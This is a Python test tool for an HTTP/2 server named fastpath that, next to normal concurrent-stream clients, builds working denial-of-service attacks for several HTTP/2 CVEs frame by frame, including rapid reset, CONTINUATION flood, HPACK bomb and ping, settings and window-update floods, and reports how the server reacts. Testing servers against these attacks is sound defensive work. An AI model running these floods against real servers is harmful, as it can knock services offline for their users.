"""A raw HTTP/2 peer for fastpath's tests: well-behaved clients built on Python's h2
library, and the attacks of the HTTP/2 CVEs written frame by frame (h2 refuses to send
most of them), each reporting how the server answered as one JSON object on stdout.

    python3 h2_peer.py HOST PORT [--tls] COMMAND [ARGS]

Commands:
  streams N PATHS [BODY_BYTES]  N concurrent streams on one connection to the
                                comma-separated PATHS in turn (POSTs with bodies of
                                BODY_BYTES when given): per path, the statuses, resets,
                                body lengths and how many answers hold their request's body
  rapid-reset N                 HEADERS then RST_STREAM(CANCEL), N times (CVE-2023-44487)
  made-you-reset N              streams the server must reset itself (CVE-2025-8671)
  continuation-flood N          one header block in endless CONTINUATION (CVE-2024-27316)
  hpack-bomb N                  one large indexed field referenced N times
  ping-flood N                  N PINGs, replies unread while sending (CVE-2019-9512)
  settings-flood N              N SETTINGS, replies unread while sending (CVE-2019-9515)
  empty-frames N                N empty DATA frames on an open stream (CVE-2019-9518)
  zero-window PATH              a window of 0, never opened (CVE-2019-9517): how long the
                                server keeps the connection
  too-many-streams N PATH       N streams at once, none finished by the peer
  priority-flood N              N PRIORITY and PRIORITY_UPDATE frames (CVE-2019-9513)
  data-dribble N PATH           a window of 0, then N WINDOW_UPDATEs of one byte each
                                (CVE-2019-9511): the DATA bytes that came of it
  idle SECONDS                  a connection that asks for nothing: how long the server
                                keeps it, and how it ends it
"""

import hashlib
import json
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
ERRORS = {0x0: "NO_ERROR", 0x1: "PROTOCOL_ERROR", 0x2: "INTERNAL_ERROR", 0x3: "FLOW_CONTROL_ERROR",
          0x5: "STREAM_CLOSED", 0x6: "FRAME_SIZE_ERROR", 0x7: "REFUSED_STREAM", 0x8: "CANCEL",
          0x9: "COMPRESSION_ERROR", 0xb: "ENHANCE_YOUR_CALM"}


def connect(host, port, tls):
    sock = socket.create_connection((host, port), timeout=10)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if tls:
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        sock = ctx.wrap_socket(sock, server_hostname="localhost")
        assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
    return sock


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request_block(encoder, path="/", method="GET", extra=()):
    return encoder.encode([(":method", method), (":scheme", "http"), (":authority", "localhost"),
                           (":path", path)] + list(extra))


class Frames:
    """Reads frames off a socket, keeping what the server said."""

    def __init__(self, sock):
        self.sock = sock
        self.buf = b""
        self.goaway = None
        self.closed = False
        self.resets = {}
        self.counts = {}
        self.statuses = {}
        self.decoder = hpack.Decoder()
        self.data = {}
        self.ended = set()

    def read_some(self, timeout):
        self.sock.settimeout(timeout)
        try:
            chunk = self.sock.recv(65536)
        except (socket.timeout, BlockingIOError, ssl.SSLWantReadError):
            return False
        except (ConnectionResetError, BrokenPipeError, ssl.SSLError, OSError):
            self.closed = True
            return False
        if not chunk:
            self.closed = True
            return False
        self.buf += chunk
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + length:
                break
            kind, flags = self.buf[3], self.buf[4]
            stream = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            payload = self.buf[9:9 + length]
            self.buf = self.buf[9 + length:]
            self.counts[kind] = self.counts.get(kind, 0) + 1
            if kind == GOAWAY:
                self.goaway = ERRORS.get(int.from_bytes(payload[4:8], "big"), hex(int.from_bytes(payload[4:8], "big")))
            elif kind == RST_STREAM:
                self.resets[stream] = ERRORS.get(int.from_bytes(payload[:4], "big"), "?")
            elif kind == HEADERS:
                for name, value in self.decoder.decode(payload):
                    if name == ":status":
                        self.statuses[stream] = int(value)
                if flags & END_STREAM:
                    self.ended.add(stream)
            elif kind == DATA:
                self.data[stream] = self.data.get(stream, 0) + length
                if flags & END_STREAM:
                    self.ended.add(stream)
        return True

    def drain(self, seconds):
        """Reads until the server closes, or for `seconds`."""
        end = time.monotonic() + seconds
        while not self.closed and time.monotonic() < end:
            self.read_some(max(0.01, end - time.monotonic()))

    def report(self, **more):
        out = {"goaway": self.goaway, "closed": self.closed, "resets": len(self.resets),
               "reset_codes": sorted(set(self.resets.values())), "statuses": len(self.statuses),
               "pings": self.counts.get(PING, 0), "settings": self.counts.get(SETTINGS, 0)}
        out.update(more)
        return out


def open_raw(host, port, tls, settings=b""):
    sock = connect(host, port, tls)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    return sock, Frames(sock)


def send_all(sock, frames_reader, data, budget=30):
    """Sends `data` while reading what comes back, so a server that answers as it reads is
    not blocked by us; stops early if the server closes.

    A failed send does not mark the connection closed: the server's last frames (its GOAWAY)
    may still wait unread in our receive queue, and the caller's drain() reads them."""
    sock.setblocking(False)
    view = memoryview(data)
    end = time.monotonic() + budget
    while view and time.monotonic() < end and not frames_reader.closed:
        try:
            n = sock.send(view[:65536])
            view = view[n:]
            frames_reader.read_some(0)
        except (BlockingIOError, ssl.SSLWantWriteError):
            frames_reader.read_some(0.01)
        except (BrokenPipeError, ConnectionResetError, OSError):
            break
        # read_some leaves its own timeout on the socket; sends here must not wait.
        sock.setblocking(False)
    sock.setblocking(True)
    return len(data) - len(view)


def streams(host, port, tls, count, paths, body_bytes=None):
    """`count` streams at once on one connection, the i-th to the i-th of the
    comma-separated `paths` (cycled), each a POST of its own body when `body_bytes` is given:
    what each got back, and whether its answer holds its body (an echo)."""
    paths = paths.split(",")
    sock = connect(host, port, tls)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    conn.increment_flow_control_window(16 * 1024 * 1024)
    sock.sendall(conn.data_to_send())
    bodies, statuses, sent, path_of = {}, {}, {}, {}
    pending_bodies = {}
    for i in range(count):
        stream = conn.get_next_available_stream_id()
        path = paths[i % len(paths)]
        path_of[stream] = path
        method = "GET" if body_bytes is None else "POST"
        headers = [(":method", method), (":scheme", "https" if tls else "http"),
                   (":authority", "localhost"), (":path", path)]
        if body_bytes is not None:
            body = hashlib.sha256(str(i).encode()).hexdigest().encode() * (body_bytes // 64 + 1)
            body = body[:body_bytes]
            sent[stream] = body
            headers.append(("content-length", str(len(body))))
            conn.send_headers(stream, headers)
            pending_bodies[stream] = body
        else:
            conn.send_headers(stream, headers, end_stream=True)
        bodies[stream] = bytearray()
    sock.sendall(conn.data_to_send())
    resets = {}
    done = set()
    deadline = time.monotonic() + 60
    while len(done) < count and time.monotonic() < deadline:
        # Body bytes go as the windows allow.
        for stream, body in list(pending_bodies.items()):
            window = min(conn.local_flow_control_window(stream), conn.max_outbound_frame_size)
            if window <= 0:
                continue
            chunk, rest = body[:window], body[window:]
            conn.send_data(stream, chunk, end_stream=not rest)
            if rest:
                pending_bodies[stream] = rest
            else:
                del pending_bodies[stream]
        out = conn.data_to_send()
        if out:
            sock.sendall(out)
        sock.settimeout(10)
        data = sock.recv(65536)
        if not data:
            break
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived):
                statuses[event.stream_id] = int(dict(event.headers)[":status"])
            elif isinstance(event, h2.events.DataReceived):
                bodies[event.stream_id] += event.data
                conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            elif isinstance(event, h2.events.StreamEnded):
                done.add(event.stream_id)
            elif isinstance(event, h2.events.StreamReset):
                resets[event.stream_id] = ERRORS.get(event.error_code, str(event.error_code))
                done.add(event.stream_id)
                pending_bodies.pop(event.stream_id, None)
        out = conn.data_to_send()
        if out:
            sock.sendall(out)
    by_path = {}
    for stream, path in path_of.items():
        entry = by_path.setdefault(path, {"statuses": {}, "resets": {}, "lengths": [], "echoed": 0})
        if stream in statuses:
            key = str(statuses[stream])
            entry["statuses"][key] = entry["statuses"].get(key, 0) + 1
        if stream in resets:
            entry["resets"][resets[stream]] = entry["resets"].get(resets[stream], 0) + 1
        elif stream in done:
            entry["lengths"].append(len(bodies[stream]))
        if stream in sent and sent[stream] in bytes(bodies[stream]):
            entry["echoed"] += 1
    for entry in by_path.values():
        entry["lengths"] = sorted(set(entry["lengths"]))
    return {"completed": len(done), "paths": by_path}


def rapid_reset(host, port, tls, n):
    sock, frames = open_raw(host, port, tls)
    enc = hpack.Encoder()
    data = bytearray()
    for i in range(n):
        stream = 1 + 2 * i
        data += frame(HEADERS, END_STREAM | END_HEADERS, stream, request_block(enc))
        data += frame(RST_STREAM, 0, stream, struct.pack(">I", 0x8))
    sent = send_all(sock, frames, bytes(data))
    frames.drain(5)
    return frames.report(sent_bytes=sent, total_bytes=len(data))


def made_you_reset(host, port, tls, n):
    sock, frames = open_raw(host, port, tls)
    enc = hpack.Encoder()
    data = bytearray()
    for i in range(n):
        stream = 1 + 2 * i
        # An open stream, then a WINDOW_UPDATE of 0 on it: a stream error the server must
        # answer with RST_STREAM (RFC 9113 §6.9).
        data += frame(HEADERS, END_HEADERS, stream, request_block(enc, "/", "POST"))
        data += frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
    sent = send_all(sock, frames, bytes(data))
    frames.drain(5)
    return frames.report(sent_bytes=sent, total_bytes=len(data))


def continuation_flood(host, port, tls, n):
    sock, frames = open_raw(host, port, tls)
    enc = hpack.Encoder()
    data = bytearray(frame(HEADERS, 0, 1, request_block(enc)))
    filler = enc.encode([("x-filler", "a" * 1000)])
    for i in range(n):
        # Every other one empty: those cost a server the most for nothing.
        data += frame(CONTINUATION, 0, 1, b"" if i % 2 else filler)
    sent = send_all(sock, frames, bytes(data))
    frames.drain(5)
    return frames.report(sent_bytes=sent, total_bytes=len(data))


def hpack_bomb(host, port, tls, n):
    sock, frames = open_raw(host, port, tls)
    # Literal with incremental indexing of a 4,000-byte value (it takes most of the 4 KiB
    # table), then the same entry (index 62) referenced n times: a few bytes each on the wire,
    # 4 KB each decoded.
    name, value = b"x-bomb", b"b" * 4000
    literal = bytes([0x40]) + hpack_string(name) + hpack_string(value)
    block = request_block(hpack.Encoder()) + literal + bytes([0x80 | 62]) * n
    pieces = [block[at:at + 16384] for at in range(0, len(block), 16384)]
    data = bytearray()
    for i, piece in enumerate(pieces):
        last = END_HEADERS if i == len(pieces) - 1 else 0
        if i == 0:
            data += frame(HEADERS, END_STREAM | last, 1, piece)
        else:
            data += frame(CONTINUATION, last, 1, piece)
    sent = send_all(sock, frames, bytes(data))
    frames.drain(3)
    return frames.report(sent_bytes=sent, status=frames.statuses.get(1))


def hpack_string(raw):
    return hpack_int(len(raw), 7, 0) + raw


def hpack_int(value, prefix, first):
    limit = (1 << prefix) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append((value % 128) | 0x80)
        value //= 128
    out.append(value)
    return bytes(out)


def flood(host, port, tls, n, one):
    sock, frames = open_raw(host, port, tls)
    data = one * n
    # Nothing read while sending: the replies pile up on the server's side.
    sock.settimeout(5)
    sent = 0
    try:
        while sent < len(data):
            sent += sock.send(data[sent:sent + 65536])
    except (socket.timeout, BrokenPipeError, ConnectionResetError, OSError):
        pass
    frames.drain(5)
    return frames.report(sent_bytes=sent, total_bytes=len(data))


def empty_frames(host, port, tls, n):
    sock, frames = open_raw(host, port, tls)
    enc = hpack.Encoder()
    data = bytearray(frame(HEADERS, END_HEADERS, 1, request_block(enc, "/", "POST")))
    data += frame(DATA, 0, 1, b"") * n
    sent = send_all(sock, frames, bytes(data))
    frames.drain(5)
    return frames.report(sent_bytes=sent, total_bytes=len(data))


def zero_window(host, port, tls, path):
    # SETTINGS_INITIAL_WINDOW_SIZE = 0: no stream may send a DATA byte until told.
    sock, frames = open_raw(host, port, tls, struct.pack(">HI", 0x4, 0))
    enc = hpack.Encoder()
    sock.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block(enc, path)))
    start = time.monotonic()
    frames.drain(60)
    return frames.report(held_seconds=round(time.monotonic() - start, 2), data_bytes=frames.data.get(1, 0))


def too_many_streams(host, port, tls, n, path):
    sock, frames = open_raw(host, port, tls)
    enc = hpack.Encoder()
    data = bytearray()
    for i in range(n):
        # POSTs whose bodies never come: every stream stays open.
        data += frame(HEADERS, END_HEADERS, 1 + 2 * i, request_block(enc, path, "POST"))
    sock.sendall(bytes(data))
    frames.drain(2)
    return frames.report(refused=sum(1 for c in frames.resets.values() if c == "REFUSED_STREAM"))


def priority_flood(host, port, tls, n):
    sock, frames = open_raw(host, port, tls)
    enc = hpack.Encoder()
    data = bytearray(frame(HEADERS, END_HEADERS, 1, request_block(enc, "/", "POST")))
    for i in range(n):
        if i % 2:
            # PRIORITY_UPDATE (RFC 9218) for stream 1: urgency 0..7 in turn.
            data += frame(0x10, 0, 0, struct.pack(">I", 1) + f"u={i % 8}".encode())
        else:
            # An RFC 7540 PRIORITY for another, idle stream.
            data += frame(PRIORITY, 0, 3 + 2 * (i % 1000), struct.pack(">IB", 1, 16))
    sent = send_all(sock, frames, bytes(data))
    frames.drain(5)
    return frames.report(sent_bytes=sent, total_bytes=len(data))


def data_dribble(host, port, tls, n, path):
    sock, frames = open_raw(host, port, tls, struct.pack(">HI", 0x4, 0))
    enc = hpack.Encoder()
    sock.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block(enc, path)))
    data = frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) * n
    sent = send_all(sock, frames, data)
    frames.drain(3)
    return frames.report(sent_bytes=sent, data_bytes=frames.data.get(1, 0),
                         data_frames=frames.counts.get(DATA, 0))


def idle(host, port, tls, seconds):
    sock, frames = open_raw(host, port, tls)
    start = time.monotonic()
    frames.drain(seconds)
    return frames.report(held_seconds=round(time.monotonic() - start, 2))


def main(argv):
    host, port = argv[1], int(argv[2])
    args = argv[3:]
    tls = False
    if args and args[0] == "--tls":
        tls, args = True, args[1:]
    command, rest = args[0], args[1:]
    if command == "streams":
        result = streams(host, port, tls, int(rest[0]), rest[1], int(rest[2]) if len(rest) > 2 else None)
    elif command == "rapid-reset":
        result = rapid_reset(host, port, tls, int(rest[0]))
    elif command == "made-you-reset":
        result = made_you_reset(host, port, tls, int(rest[0]))
    elif command == "continuation-flood":
        result = continuation_flood(host, port, tls, int(rest[0]))
    elif command == "hpack-bomb":
        result = hpack_bomb(host, port, tls, int(rest[0]))
    elif command == "ping-flood":
        result = flood(host, port, tls, int(rest[0]), frame(PING, 0, 0, b"12345678"))
    elif command == "settings-flood":
        result = flood(host, port, tls, int(rest[0]), frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 65535)))
    elif command == "empty-frames":
        result = empty_frames(host, port, tls, int(rest[0]))
    elif command == "zero-window":
        result = zero_window(host, port, tls, rest[0])
    elif command == "too-many-streams":
        result = too_many_streams(host, port, tls, int(rest[0]), rest[1])
    elif command == "priority-flood":
        result = priority_flood(host, port, tls, int(rest[0]))
    elif command == "data-dribble":
        result = data_dribble(host, port, tls, int(rest[0]), rest[1])
    elif command == "idle":
        result = idle(host, port, tls, float(rest[0]))
    else:
        raise SystemExit(f"unknown command {command}")
    json.dump(result, sys.stdout)
    print()


if __name__ == "__main__":
    main(sys.argv)
